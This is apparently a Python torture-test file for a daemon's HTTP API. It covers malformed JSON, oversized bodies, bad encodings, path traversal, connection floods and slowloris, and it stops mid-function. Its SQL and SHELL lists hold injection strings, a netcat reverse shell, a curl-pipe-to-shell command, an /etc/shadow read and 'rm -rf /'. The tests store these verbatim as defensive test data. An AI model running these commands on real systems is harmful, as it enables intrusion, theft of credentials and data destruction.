#!/usr/bin/env python3
"""Hostile input against the real loaxad: malformed and malicious API
requests, CSV files and config files (issue "Benchmarks and torture").

Every case is one line of a table: what is sent and the answer docs/api.md
promises (status and stable error code, or the field errors), or for a
config file the line and message of "loaxad --check-config". After each API
and CSV case the daemon must still answer GET /v1/status with 200; at the
end of each test it must exit 0 on SIGTERM with no sanitizer report in its
log (checked by harness.DaemonCase).

Cases that cannot be a single request (stored-verbatim checks, connection
floods, slowloris) are functions in the same tables.

The console's forms (issue #7) have their own tables (CONSOLE_CASES,
CONSOLE_SPECIAL, LIMIT_CASES) against a daemon that also listens on
127.0.0.1: logins, session cookies and CSRF headers, bearer tokens, the
users form, a manager's household and broadcast forms, and the console's
static files. There, no answer of 400 and above may carry a secret or a
session, and loaxad's log must hold no error at the end.

Needs LOAXAD (else exits 77); LOAXA and LOAXA_SRCDIR are optional here.
Python 3 stdlib only.
"""

import csv
import io
import json
import os
import random
import re
import select
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from harness import DaemonCase, quote  # noqa: E402

harness.require_env()

KiB = 1024
MiB = 1024 * 1024
JSON = {"Content-Type": "application/json"}
CSV_CT = {"Content-Type": "text/csv"}
API_TIMEOUT_S = 2           # [api] timeout of the hostile daemon
MAX_CONNECTIONS = 32        # [api] max_connections of the hostile daemon
MAX_BODY = "8M"             # [api] max_body of the hostile daemon
NEXT_YEAR = time.gmtime().tm_year + 1
STARTS = "19:30 05/12/%d" % NEXT_YEAR
SEND_AT = "08:00 25/11/%d" % NEXT_YEAR
SANITIZER_MARKS = DaemonCase.SANITIZER_MARKS + ("AddressSanitizer",
                                                "UndefinedBehaviorSanitizer")

SQL = "'; DROP TABLE households; --"
SQL2 = "1' OR '1'='1"
SQL3 = "\"); DELETE FROM phones; SELECT load_extension('x'); --"
SHELL = ["$(reboot)", "`id`", "; rm -rf / #", "| nc -e /bin/sh 1.2.3.4 9",
         "${IFS}cat${IFS}/etc/shadow", "&& curl http://x/ | sh"]
EMOJI = "Họp 🎉🇻🇳👨‍👩‍👧 tổ 2A"
RTL = "\u202eA2 ot\u202c \u200f\u2066x\u2069 gpj.exe"

_phone = [100000]


def phone():
    """A fresh valid Viettel mobile number (national form)."""
    _phone[0] += 1
    return "0977%06d" % _phone[0]


def hh(**kw):
    """A valid household body with a fresh phone; kw overrides."""
    b = {"group": "2A", "name": "Nguyễn Văn Thử", "phones": [phone()]}
    b.update(kw)
    return b


def meeting(**kw):
    b = {"kind": "meeting", "title": "Họp tổ dân cư", "starts_at": STARTS,
         "send_at": SEND_AT, "place": "Nhà văn hóa", "groups": ["nam-ha"]}
    b.update(kw)
    return b


def notice(**kw):
    b = {"kind": "notice", "title": "Thông báo", "body": "Nội dung",
         "send_at": SEND_AT, "groups": ["nam-ha"]}
    b.update(kw)
    return b


def without(d, key):
    d = dict(d)
    d.pop(key)
    return d


def jbytes(obj):
    return json.dumps(obj, ensure_ascii=False).encode("utf-8")


def nested(n, open_=b"[", close=b"]", inner=b""):
    return open_ * n + inner + close * n


def parse_raw_status(raw):
    """The status code of a raw HTTP answer, or None."""
    m = re.match(rb"HTTP/1\.[01] (\d{3}) ", raw)
    return int(m.group(1)) if m else None


# ---------------------------------------------------------------------------
# API cases
#
# Req(name, method, path, body, expect, fields=(), headers=None)
#   body:   dict/list (sent as JSON), bytes (as is), str (UTF-8), a callable
#           returning one of those (built lazily), or None.
#   expect: (status, code) or a list of acceptable (status, code); code None
#           means "any body" (success, or an answer libmicrohttpd makes).
#   fields: (field, code) pairs that must all be among the 422 field errors
#           (code None: any code).

class Req:
    def __init__(self, name, method, path, body=None, expect=(400, "bad_json"),
                 fields=(), headers=None):
        self.name, self.method, self.path = name, method, path
        self.body, self.fields, self.headers = body, fields, headers
        self.expect = expect if isinstance(expect, list) else [expect]


class Fn:
    """A case that needs more than one request: fn(testcase, daemon)."""

    def __init__(self, name, fn):
        self.name, self.fn = name, fn


def V(*fields):
    """422 validation_failed with these (field, code) pairs."""
    return dict(expect=(422, "validation_failed"), fields=list(fields))


H, B, P = "/v1/households", "/v1/broadcasts", "/v1/broadcasts/preview"
I64 = 2 ** 63
HH_FIELDS = ["group", "name", "phones", "address", "zalo_user_id",
             "messenger_psid", "note", "opted_out"]

API_CASES = [
    # ---- JSON syntax ----
    Req("truncated object", "POST", H, b'{"group": "2A", "name": "Nguy'),
    Req("truncated after colon", "POST", H, b'{"group":'),
    Req("truncated inside escape", "POST", H, b'{"name": "\\u00'),
    Req("truncated inside a UTF-8 sequence", "POST", H,
        b'{"group": "2A", "name": "Nguy\xe1\xbb', (400, "bad_request")),
    Req("trailing braces", "POST", H, lambda: jbytes(hh()) + b"}}}"),
    Req("trailing second object", "POST", H,
        lambda: jbytes(hh()) + jbytes(hh())),
    Req("trailing NUL", "POST", H, lambda: jbytes(hh()) + b"\x00"),
    Req("10000 nested arrays", "POST", H, nested(10000)),
    Req("10000 nested arrays in a field", "POST", H,
        lambda: b'{"name": ' + nested(10000) + b"}"),
    Req("10000 nested objects", "POST", H,
        lambda: nested(10000, b'{"a":', b"}", b"1")),
    Req("10000 unclosed arrays", "POST", B, b"[" * 10000),
    Req("duplicate keys", "POST", H,
        b'{"group": "2A", "name": "a", "name": "b", "phones": "0977000001"}'),
    Req("duplicate keys, broadcast", "POST", B,
        b'{"kind": "notice", "title": "a", "title": "b", "body": "x", '
        b'"groups": "all"}'),
    Req("duplicate keys, preview", "POST", P,
        b'{"kind": "notice", "kind": "meeting"}'),
    Req("duplicate keys, group", "POST", "/v1/groups",
        b'{"code": "9Z", "name": "x", "code": "9Y"}'),
    Req("number instead of object", "POST", B, b"1e999"),
    Req("NaN", "POST", H, b'{"name": NaN}'),
    Req("single quotes", "POST", H, b"{'group': '2A'}"),
    Req("comment in JSON", "POST", H, b'{"group": "2A" /* x */}'),
    # ---- huge values ----
    Req("1 MB name", "POST", H, lambda: hh(name="A" * MiB),
        **V(("name", "too_long"))),
    Req("1 MB address", "POST", H, lambda: hh(address="đ" * (MiB // 2)),
        **V(("address", "too_long"))),
    Req("1 MB phone", "POST", H, lambda: hh(phones=["9" * MiB]),
        **V(("phones[0]", None))),
    Req("1 MB group", "POST", H, lambda: hh(group="g" * MiB),
        **V(("group", None))),
    Req("1 MB key", "POST", H, lambda: dict(hh(), **{"k" * MiB: 1}),
        **V()),
    Req("10000 phones", "POST", H,
        lambda: hh(phones=["0977%06d" % i for i in range(10000)]),
        **V(("phones", "too_many"))),
    Req("10000 unknown keys", "POST", H,
        lambda: dict(hh(), **{"k%d" % i: i for i in range(10000)}),
        **V(("k0", "unknown_field"), ("k9999", "unknown_field"))),
    Req("1 MB title", "POST", B, lambda: meeting(title="T" * MiB),
        **V(("title", "too_long"))),
    Req("201-byte title", "POST", P, lambda: meeting(title="T" * 201),
        **V(("title", "too_long"))),
    Req("2001-character notice", "POST", P,
        lambda: notice(body="ớ" * 2001), **V(("body", "too_long"))),
    Req("1 MB idempotency_key field", "POST", B,
        lambda: meeting(idempotency_key="k" * MiB),
        **V(("idempotency_key", "invalid"))),
    Req("1 MB Idempotency-Key header", "POST", B, meeting,
        (431, None), headers={"Idempotency-Key": "k" * MiB}),
    Req("1 MB starts_at string", "POST", P,
        lambda: meeting(starts_at="1" * MiB), **V(("starts_at", "bad_time"))),
    Req("10 MB body above max_body", "POST", H,
        lambda: hh(note="x" * (10 * MiB)), (413, "too_large")),
    Req("10 MB import above max_body", "POST", "/v1/import?group=2A",
        lambda: b"ho_ten,sdt\n" + b"A,0912345678\n" * (10 * MiB // 13),
        (413, "too_large")),
    # ---- wrong types: household ----
    Req("name is a number", "POST", H, lambda: hh(name=42),
        **V(("name", "wrong_type"))),
    Req("group is an object", "POST", H, lambda: hh(group={"code": "2A"}),
        **V(("group", "wrong_type"))),
    Req("phones is an object", "POST", H,
        lambda: hh(phones={"0": "0977000002"}), **V(("phones", "wrong_type"))),
    Req("phones is a number", "POST", H, lambda: hh(phones=977000003),
        **V(("phones", "wrong_type"))),
    Req("phones[0] is a number", "POST", H, lambda: hh(phones=[977000004]),
        **V(("phones[0]", "wrong_type"))),
    Req("phones[1] is null", "POST", H,
        lambda: hh(phones=["0977000005", None]),
        **V(("phones[1]", "wrong_type"))),
    Req("opted_out is a string", "POST", H, lambda: hh(opted_out="yes"),
        **V(("opted_out", "wrong_type"))),
    Req("address is an array", "POST", H, lambda: hh(address=["x"]),
        **V(("address", "wrong_type"))),
    Req("note is a boolean", "POST", H, lambda: hh(note=True),
        **V(("note", "wrong_type"))),
    Req("zalo_user_id is a real", "POST", H, lambda: hh(zalo_user_id=1.5),
        **V(("zalo_user_id", "wrong_type"))),
    Req("messenger_psid is an object", "POST", H,
        lambda: hh(messenger_psid={}), **V(("messenger_psid", "wrong_type"))),
    Req("name is null", "POST", H, lambda: hh(name=None),
        **V(("name", "required"))),
    Req("group is null", "POST", H, lambda: hh(group=None),
        **V(("group", "required"))),
    Req("phones is null", "POST", H, lambda: hh(phones=None),
        **V(("phones", "required"))),
    Req("every field of a household wrong", "POST", H,
        {"group": 1, "name": [], "phones": {}, "address": 2,
         "zalo_user_id": [], "messenger_psid": 3.5, "note": False,
         "opted_out": 0},
        **V(*[(f, "wrong_type") for f in HH_FIELDS])),
    Req("PATCH with wrong types", "PATCH", H + "/1",
        {"name": 1, "opted_out": "no"},
        expect=[(422, "validation_failed"), (404, "not_found")]),
    Req("group name is a number", "POST", "/v1/groups",
        {"code": "9Z", "name": 9}, **V(("name", None))),
    Req("group code is an array", "POST", "/v1/groups",
        {"code": ["9Z"], "name": "x"}, **V(("code", None))),
    # ---- wrong types: broadcast ----
    Req("kind is a number", "POST", B, lambda: meeting(kind=1),
        **V(("kind", "wrong_type"))),
    Req("priority is a number", "POST", B, lambda: meeting(priority=5),
        **V(("priority", "wrong_type"))),
    Req("title is an array", "POST", B, lambda: meeting(title=["x"]),
        **V(("title", "wrong_type"))),
    Req("title is null", "POST", B, lambda: meeting(title=None),
        **V(("title", "required"))),
    Req("body is an array", "POST", B, lambda: notice(body=["x"]),
        **V(("body", "wrong_type"))),
    Req("place is a number", "POST", B, lambda: meeting(place=7),
        **V(("place", "wrong_type"))),
    Req("agenda is an object", "POST", B, lambda: meeting(agenda={}),
        **V(("agenda", "wrong_type"))),
    Req("groups is an object", "POST", B, lambda: meeting(groups={"a": 1}),
        **V(("groups", "wrong_type"))),
    Req("groups[0] is a number", "POST", B, lambda: meeting(groups=[1]),
        **V(("groups[0]", "wrong_type"))),
    Req("groups is null", "POST", B, lambda: meeting(groups=None),
        **V(("groups", "required"))),
    Req("reminders is an object", "POST", B, lambda: meeting(reminders={}),
        **V(("reminders", "wrong_type"))),
    Req("reminders[0] is null", "POST", B,
        lambda: meeting(reminders=[None]),
        **V(("reminders[0]", "wrong_type"))),
    Req("starts_at is a boolean", "POST", B, lambda: meeting(starts_at=True),
        **V(("starts_at", "wrong_type"))),
    Req("starts_at is a real", "POST", B,
        lambda: meeting(starts_at=1.5e300), **V(("starts_at", "wrong_type"))),
    Req("send_at is an object", "POST", B, lambda: meeting(send_at={}),
        **V(("send_at", "wrong_type"))),
    Req("expires_at is an array", "POST", B, lambda: notice(expires_at=[]),
        **V(("expires_at", "wrong_type"))),
    Req("idempotency_key is a number", "POST", B,
        lambda: meeting(idempotency_key=5),
        **V(("idempotency_key", "wrong_type"))),
    Req("every field of a broadcast wrong", "POST", B,
        {"kind": 1, "priority": [], "title": {}, "body": 2, "place": 3,
         "agenda": 4, "starts_at": False, "send_at": [], "expires_at": {},
         "groups": 5, "reminders": 6, "idempotency_key": 7},
        **V(*[(f, "wrong_type") for f in (
            "kind", "priority", "title", "body", "place", "agenda",
            "starts_at", "send_at", "expires_at", "groups", "reminders",
            "idempotency_key")])),
    Req("preview with wrong types", "POST", P,
        {"kind": [], "title": 1, "groups": {}},
        **V(("kind", "wrong_type"), ("title", "wrong_type"),
            ("groups", "wrong_type"))),
    # ---- encodings: invalid UTF-8, overlong forms, NUL ----
    Req("invalid UTF-8 in a title", "POST", B,
        b'{"kind": "notice", "title": "H\xf3p", "body": "x", '
        b'"groups": "all"}', (400, "bad_request")),
    Req("invalid UTF-8 in a key", "POST", H,
        b'{"\xff\xfe": 1, "group": "2A"}', (400, "bad_request")),
    Req("overlong 3-byte '/'", "POST", H,
        b'{"group": "2A", "name": "a\xe0\x80\xafb", "phones": "0977000006"}',
        (400, "bad_request")),
    Req("overlong NUL (C0 80)", "POST", H,
        b'{"group": "2A", "name": "a\xc0\x80b", "phones": "0977000007"}',
        (400, "bad_request")),
    Req("UTF-8 encoded surrogate", "POST", H,
        b'{"group": "2A", "name": "\xed\xa0\x80", "phones": "0977000008"}',
        (400, "bad_request")),
    Req("code point above U+10FFFF", "POST", B,
        b'{"title": "\xf4\x90\x80\x80"}', (400, "bad_request")),
    Req("escaped lone surrogate", "POST", H,
        b'{"group": "2A", "name": "\\ud800", "phones": "0977000009"}',
        [(400, "bad_json"), (400, "bad_request")]),
    Req("NUL in a name", "POST", H, lambda: hh(name="\u0000"),
        **V(("name", "invalid"))),
    Req("NUL in the middle of a name", "POST", H,
        lambda: hh(name="An\u0000; rm -rf /"), **V(("name", "invalid"))),
    Req("NUL in a phone", "POST", H, lambda: hh(phones=["0977\u0000000010"]),
        **V(("phones[0]", None))),
    Req("NUL in a title", "POST", P, lambda: meeting(title="Họp\u0000x"),
        **V(("title", "invalid"))),
    Req("NUL in a group code", "POST", "/v1/groups",
        {"code": "9Z\u0000../x", "name": "x"}, **V(("code", None))),
    Req("terminal escapes in a name", "POST", H,
        lambda: hh(name="\u001b[31mAn\u0007"),
        **V(("name", "control_chars"))),
    Req("invalid UTF-8 in the path", "GET", "/v1/groups/%FF%FE",
        expect=(400, "bad_request")),
    Req("overlong UTF-8 in the path", "GET", "/v1/groups/%C0%AE%C0%AE",
        expect=(400, "bad_request")),
    Req("invalid UTF-8 in a query value", "GET", H + "?group=%C3%28",
        expect=(400, "bad_request")),
    Req("invalid UTF-8 in a query key", "GET", H + "?%FF=1",
        expect=(400, "bad_request")),
    Req("overlong UTF-8 in q", "GET", H + "?q=%E0%80%AF",
        expect=(400, "bad_request")),
    Req("NUL in a query value", "GET", H + "?group=2A%00junk",
        expect=[(400, "bad_request"), (404, "not_found")]),
    Req("NUL in a path segment", "GET", "/v1/groups/2A%00junk",
        expect=[(400, "bad_request"), (404, "not_found")]),
    # ---- path traversal ----
    Req("traversal in a group path", "GET",
        "/v1/groups/" + quote("../../etc/passwd"), expect=(404, "not_found")),
    Req("traversal in a group path, DELETE", "DELETE",
        "/v1/groups/" + quote("../../etc/passwd") + "?force=1",
        expect=(404, "not_found")),
    Req("encoded dots as a group", "GET", "/v1/groups/%2e%2e",
        expect=(404, "not_found")),
    Req("traversal in ?group", "GET",
        H + "?group=" + quote("../../etc/passwd"), expect=(404, "not_found")),
    Req("traversal in export ?group", "GET",
        "/v1/export?group=" + quote("../../../../etc/shadow"),
        expect=(404, "not_found")),
    Req("literal dot segments", "GET", "/v1/../v1/status",
        expect=(404, "not_found")),
    Req("traversal as a new group code", "POST", "/v1/groups",
        {"code": "../../etc/passwd", "name": "x"}, **V(("code", "invalid"))),
    Req("traversal as broadcast group", "POST", P,
        lambda: meeting(groups=["../../etc/passwd"]),
        **V(("groups[0]", "unknown_group"))),
    # ---- ids ----
    Req("id 2^63", "GET", H + "/%d" % I64, expect=(404, "not_found")),
    Req("id 2^63-1", "GET", H + "/%d" % (I64 - 1), expect=(404, "not_found")),
    Req("id 2^64", "PATCH", H + "/%d" % 2 ** 64, {"name": "x"},
        expect=(404, "not_found")),
    Req("id -2^63", "DELETE", H + "/%d" % -I64, expect=(404, "not_found")),
    Req("id -1", "GET", H + "/-1", expect=(404, "not_found")),
    Req("id 0", "GET", H + "/0", expect=(404, "not_found")),
    Req("id 1e10", "GET", H + "/1e10", expect=(404, "not_found")),
    Req("id 0x10", "GET", H + "/0x10", expect=(404, "not_found")),
    Req("id abc", "GET", H + "/abc", expect=(404, "not_found")),
    Req("id with SQL", "GET", H + "/" + quote("1 OR 1=1"),
        expect=(404, "not_found")),
    Req("opt-out of 10^20", "POST", H + "/100000000000000000000/opt-out",
        expect=(404, "not_found")),
    Req("broadcast 2^63", "GET", B + "/%d" % I64, expect=(404, "not_found")),
    Req("cancel broadcast -1", "POST", B + "/-1/cancel",
        expect=(404, "not_found")),
    Req("deliveries of broadcast 1e10", "GET", B + "/1e10/deliveries",
        expect=(404, "not_found")),
    # ---- query parameters ----
    Req("limit -2^63-1", "GET", H + "?limit=%d" % (-I64 - 1),
        expect=(400, "bad_request")),
    Req("limit 10^9", "GET", H + "?limit=1000000000",
        expect=(400, "bad_request")),
    Req("limit empty", "GET", H + "?limit=", expect=(400, "bad_request")),
    Req("after 2^63", "GET", H + "?after=%d" % I64,
        expect=(400, "bad_request")),
    Req("broadcasts limit -5", "GET", B + "?limit=-5",
        expect=(400, "bad_request")),
    Req("broadcasts limit 10^9", "GET", B + "?limit=1000000000",
        expect=(400, "bad_request")),
    Req("broadcasts state with SQL", "GET", B + "?state=" + quote(SQL),
        expect=(400, "bad_request")),
    Req("unknown query parameters are ignored", "GET",
        H + "?foo=bar&%24where=1%3D1&limit=5&" + quote(SQL) + "=1",
        expect=(200, None)),
    Req("unknown parameters on status", "GET", "/v1/status?debug=1&admin=1",
        expect=(200, None)),
    Req("dry_run not a boolean", "POST", "/v1/import?dry_run=maybe",
        b"ho_ten,sdt\nA,0977000011\n", (400, "bad_request")),
    # ---- methods ----
    Req("TRACE on a route", "TRACE", "/v1/status",
        expect=(405, "method_not_allowed")),
    Req("PUT on a household", "PUT", H + "/1", {"name": "x"},
        expect=(405, "method_not_allowed")),
    Req("OPTIONS on groups", "OPTIONS", "/v1/groups",
        expect=(405, "method_not_allowed")),
    Req("made-up method", "BREW", "/v1/status",
        expect=(405, "method_not_allowed")),
    Req("TRACE on no route", "TRACE", "/nope", expect=(404, "not_found")),
    # ---- headers ----
    Req("20 KB header", "GET", "/v1/status", expect=(431, None),
        headers={"X-Big": "a" * (20 * KiB)}),
    Req("200 headers", "GET", "/v1/status", expect=(200, None),
        headers={"X-H-%d" % i: "v%d" % i for i in range(200)}),
    Req("2000 headers", "GET", "/v1/status", expect=(431, None),
        headers={"X-Header-%d" % i: "value-%d" % i for i in range(2000)}),
    # ---- broadcast times ----
    Req("31 February", "POST", P, lambda: meeting(starts_at="31/02/%d 19:30"
                                                  % NEXT_YEAR),
        **V(("starts_at", "bad_time"))),
    Req("25:00", "POST", P,
        lambda: meeting(starts_at="25:00 05/12/%d" % NEXT_YEAR),
        **V(("starts_at", "bad_time"))),
    Req("19:61", "POST", P,
        lambda: meeting(starts_at="19:61 05/12/%d" % NEXT_YEAR),
        **V(("starts_at", "bad_time"))),
    Req("year 99999", "POST", P,
        lambda: meeting(starts_at="19:30 05/12/99999"),
        **V(("starts_at", "bad_time"))),
    Req("day 00/00/0000", "POST", P,
        lambda: meeting(starts_at="19:30 00/00/0000"),
        **V(("starts_at", "bad_time"))),
    Req("starts_at -1 ms", "POST", P, lambda: meeting(starts_at=-1),
        **V(("starts_at", None))),
    Req("starts_at 2^63-1 ms", "POST", P,
        lambda: meeting(starts_at=I64 - 1, send_at=None),
        **V(("starts_at", None))),
    Req("send_at 2^63-1 ms, notice", "POST", P,
        lambda: notice(send_at=I64 - 1), **V(("send_at", None))),
    Req("expires_at -2^63 ms", "POST", P,
        lambda: notice(expires_at=-I64), **V(("expires_at", None))),
    Req("reminder of 10^11 days", "POST", P,
        lambda: meeting(reminders=["99999999999 days before"]),
        **V(("reminders[0]", "bad_duration"))),
    Req("negative reminder", "POST", P,
        lambda: meeting(reminders=["-2 hours before"]),
        **V(("reminders[0]", "bad_duration"))),
    Req("5 reminders", "POST", P,
        lambda: meeting(reminders=["%d hours before" % (i + 1)
                                   for i in range(5)]),
        **V(("reminders", "too_many"))),
    Req("1000 reminders", "POST", P,
        lambda: meeting(reminders=["%d minutes before" % (i + 1)
                                   for i in range(1000)]),
        **V(("reminders", "too_many"))),
    Req("10000 groups", "POST", P,
        lambda: meeting(groups=["g%d" % i for i in range(10000)]),
        **V(("groups", "too_many"))),
    Req("unknown kind with SQL", "POST", P, lambda: meeting(kind=SQL),
        **V(("kind", "invalid"))),
]


# ---- API cases that take more than one request ----

def case_sql_verbatim(t, d):
    before = t.status(d)["households"]
    r = d.post(H, hh(name=SQL, address=SQL2, note=SQL3))
    t.assertStatus(r, 201)
    h = r.body
    t.assertHousehold(h, name=SQL, address=SQL2, note=SQL3)
    # ids are restricted to [A-Za-z0-9._-]: SQL there is a field error
    r = d.post(H, hh(zalo_user_id="1;--", messenger_psid="x' OR 'x'='x"))
    t.assertFields(r, [("zalo_user_id", "invalid"),
                       ("messenger_psid", "invalid")])
    t.assertEqual(d.get(H + "/%d" % h["id"]).body, h)
    # the table still exists and counts the new row
    t.assertEqual(t.status(d)["households"], before + 1)
    # searches with SQL find only what holds that text
    # (q matches folded words of name and address, and phone digits)
    for q, want in ((SQL, [h["id"]]), ("' OR 'x'='x", []),
                    ("x' UNION SELECT * FROM phones --", []),
                    ("'", []), ("%' --", [])):
        r = d.get(H + "?limit=1000&q=" + quote(q))
        t.assertStatus(r, 200)
        t.assertEqual([x["id"] for x in r.body["households"]], want, q)
    # a group whose name is SQL
    r = d.post("/v1/groups", {"code": "sqli", "name": SQL})
    t.assertStatus(r, 201)
    t.assertEqual(r.body["name"], SQL)
    r = d.get("/v1/groups/" + quote(SQL))
    t.assertStatus(r, 200)
    t.assertEqual(r.body["code"], "sqli")
    t.assertStatus(d.delete("/v1/groups/sqli"), 204)


def case_like_wildcards(t, d):
    """q is a substring search: '%', '_' and '*' must not match
    everything."""
    r = d.post(H, hh(name="Lê Văn Thường"))
    t.assertStatus(r, 201)
    other = r.body["id"]
    r = d.post(H, hh(name="Trần Đúng_Hạn %*"))
    t.assertStatus(r, 201)
    mine = r.body["id"]
    for q in ("%", "_", "%_%", "*", "\\", "[a-z]*", ".*"):
        r = d.get(H + "?limit=1000&q=" + quote(q))
        t.assertStatus(r, 200)
        ids = [x["id"] for x in r.body["households"]]
        t.assertNotIn(other, ids, "q=%r matched %r" % (q, ids))
        t.assertLessEqual(set(ids), {mine}, "q=%r matched %r" % (q, ids))


def case_shell_verbatim(t, d):
    for s in SHELL:
        r = d.post(H, hh(name="Hộ " + s, address=s, note=s))
        t.assertStatus(r, 201, s)
        t.assertHousehold(r.body, name="Hộ " + s, address=s, note=s)
        r = d.get(H + "?q=" + quote(s))
        t.assertStatus(r, 200)
        t.assertEqual([x["address"] for x in r.body["households"]], [s])


def case_emoji_rtl_household(t, d):
    for name in (EMOJI, RTL, "\U0010fffd\ufeff Nguyễn \u200b"):
        r = d.post(H, hh(name=name, note=name))
        t.assertStatus(r, 201)
        json.loads(r.raw.decode("utf-8"))   # valid UTF-8 JSON back
        # names are trimmed of ASCII space only, if at all
        t.assertEqual(r.body["note"], name.strip(" "))
        t.assertEqual(d.get(H + "/%d" % r.body["id"]).body, r.body)


def case_emoji_rtl_broadcast(t, d):
    for title in (EMOJI, RTL):
        r = d.post(B, meeting(title=title, agenda=title + "\n" + RTL))
        t.assertStatus(r, 201)
        json.loads(r.raw.decode("utf-8"))
        t.assertEqual(r.body["title"], title)
        t.assertEqual(r.body["agenda"], title + "\n" + RTL)
        r2 = d.get(B + "/%d" % r.body["id"])
        t.assertStatus(r2, 200)
        t.assertEqual(r2.body["title"], title)
        t.assertStatus(d.post(B + "/%d/cancel" % r.body["id"]), 200)
        r = d.post(P, meeting(title=title))
        t.assertStatus(r, 200)
        t.assertIn(title, r.body["messages"][0]["text"])


def case_idempotency_key_hostile(t, d):
    key = SQL + " $(reboot) 🎉"
    hdr = {"Idempotency-Key": key.encode("utf-8")}
    r1 = d.post(B, meeting(), headers=hdr)
    t.assertStatus(r1, 201)
    r2 = d.post(B, meeting(title="other"), headers=hdr)
    t.assertStatus(r2, 200)
    t.assertEqual(r2.body["id"], r1.body["id"])
    t.assertEqual(r2.body["idempotency_key"], key)
    t.assertStatus(d.post(B + "/%d/cancel" % r1.body["id"]), 200)


def case_nul_truncated_id(t, d):
    """/v1/households/<id>%00junk is not household <id>."""
    r = d.post(H, hh())
    t.assertStatus(r, 201)
    hid = r.body["id"]
    bad = []
    for suffix in ("%00junk", "%00", "%00/opt-out", "%20", "%0a"):
        r = d.get(H + "/%d%s" % (hid, suffix))
        code = r.body.get("error", {}).get("code") \
            if isinstance(r.body, dict) else None
        if (r.status, code) not in [(404, "not_found"), (400, "bad_request"),
                                    (405, "method_not_allowed")]:
            bad.append("GET %s/%d%s -> %d" % (H, hid, suffix, r.status))
    t.assertEqual(bad, [])


def case_short_body_then_close(t, d):
    """Content-Length larger than what is sent, then the client leaves."""
    for n in (100, 10 ** 6, 7 * MiB):
        d.raw(b"POST /v1/households HTTP/1.1\r\nHost: x\r\n"
              b"Content-Type: application/json\r\n"
              b"Content-Length: %d\r\n\r\n{\"group\": \"2A\"" % n,
              timeout=0.3, shut_wr=False)
    # and half-closed (EOF before the body is complete)
    d.raw(b"POST /v1/import HTTP/1.1\r\nHost: x\r\nContent-Length: 5000\r\n"
          b"\r\nho_ten,sdt\n", timeout=1.0, shut_wr=True)


def case_chunked_over_max_body(t, d):
    """Chunked bodies have no Content-Length to check up front: the 413
    must come when the body passes max_body."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect(d.socket_path)
    got = []

    def reader():
        try:
            while True:
                b = s.recv(65536)
                if not b:
                    break
                got.append(b)
        except OSError:
            pass
    th = threading.Thread(target=reader)
    th.start()
    try:
        s.sendall(b"POST /v1/households HTTP/1.1\r\nHost: x\r\n"
                  b"Transfer-Encoding: chunked\r\n\r\n")
        chunk = b"x" * MiB
        for _ in range(12):
            s.sendall(b"%x\r\n" % len(chunk) + chunk + b"\r\n")
        s.sendall(b"0\r\n\r\n")
    except OSError:
        pass
    th.join(15)
    s.close()
    raw = b"".join(got)
    t.assertEqual(parse_raw_status(raw), 413, "a 12 MB chunked body "
                  "(max_body %s) got %r" % (MAX_BODY, raw[:300]))
    t.assertIn(b'"too_large"', raw)


def case_huge_chunk_size(t, d):
    d.raw(b"POST /v1/households HTTP/1.1\r\nHost: x\r\n"
          b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nabc",
          timeout=1.0, shut_wr=True)
    d.raw(b"POST /v1/households HTTP/1.1\r\nHost: x\r\n"
          b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n"
          b"5\r\nhello\r\n0\r\n\r\n", timeout=1.0, shut_wr=True)


def case_raw_bytes_in_request_line(t, d):
    for line in (b"GET /v1/groups/\xff\xfe HTTP/1.1",
                 b"GET /v1/groups/\xc0\xaf HTTP/1.1",
                 b"GET /v1/households?q=\xff HTTP/1.1"):
        got = d.raw(line + b"\r\nHost: x\r\nConnection: close\r\n\r\n",
                    timeout=3.0)
        st = parse_raw_status(got)
        t.assertIn(st, (400, 404), got[:300])
        t.assertIn(b'"error"', got, got[:300])


def fd_count(pid):
    try:
        return len(os.listdir("/proc/%d/fd" % pid))
    except OSError:
        return None


def case_1000_connections(t, d):
    """1000 connections opened at once, some with a partial request, then
    dropped: loaxad holds at most max_connections of them and serves
    again once they are gone."""
    base = fd_count(d.proc.pid)
    socks = []
    refused = 0
    for i in range(1000):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect(d.socket_path)
        except (BlockingIOError, ConnectionRefusedError, OSError):
            refused += 1
            s.close()
            continue
        if i % 3 == 0:
            try:
                s.send(b"GET /v1/status HTTP/1.1\r\nHost: x\r\n")
            except OSError:
                pass
        socks.append(s)
    time.sleep(0.5)
    held = fd_count(d.proc.pid)
    for s in socks:
        s.close()
    t.assertTrue(d.running(), "loaxad died under 1000 connections")
    if base is not None and held is not None:
        t.assertLessEqual(held - base, MAX_CONNECTIONS + 8,
                          "loaxad held %d more descriptors with 1000 "
                          "connections open (max_connections = %d)"
                          % (held - base, MAX_CONNECTIONS))
    t.wait_serving(d, 10.0)


def case_connection_storm_threads(t, d):
    """50 threads each open and drop 20 connections, with and without a
    request, while one client keeps asking for the status."""
    errors = []
    stop = threading.Event()

    def storm(k):
        for i in range(20):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(2)
            try:
                s.connect(d.socket_path)
                if (k + i) % 2:
                    s.sendall(b"POST /v1/households HTTP/1.1\r\nHost: x\r\n"
                              b"Content-Length: 50\r\n\r\n{")
            except OSError:
                pass
            finally:
                s.close()

    def watcher():
        while not stop.is_set():
            try:
                r = d.get("/v1/status", timeout=10)
                if r.status != 200:
                    errors.append(repr(r))
            except OSError as e:
                errors.append(repr(e))
            time.sleep(0.05)

    w = threading.Thread(target=watcher)
    w.start()
    ts = [threading.Thread(target=storm, args=(k,)) for k in range(50)]
    for th in ts:
        th.start()
    for th in ts:
        th.join(60)
    stop.set()
    w.join(30)
    t.assertEqual(errors, [])


def case_slowloris(t, d):
    """Headers sent one byte at a time, well within the idle timeout each:
    loaxad must still close the connection about [api] timeout after it
    opened (else a handful of such clients take every connection slot)."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(d.socket_path)
    data = (b"GET /v1/status HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 200)
    t0 = time.monotonic()
    closed_after = None
    checked_other = False
    limit = 4 * API_TIMEOUT_S + 4
    try:
        for byte in data:
            try:
                s.send(bytes([byte]))
            except OSError:
                closed_after = time.monotonic() - t0
                break
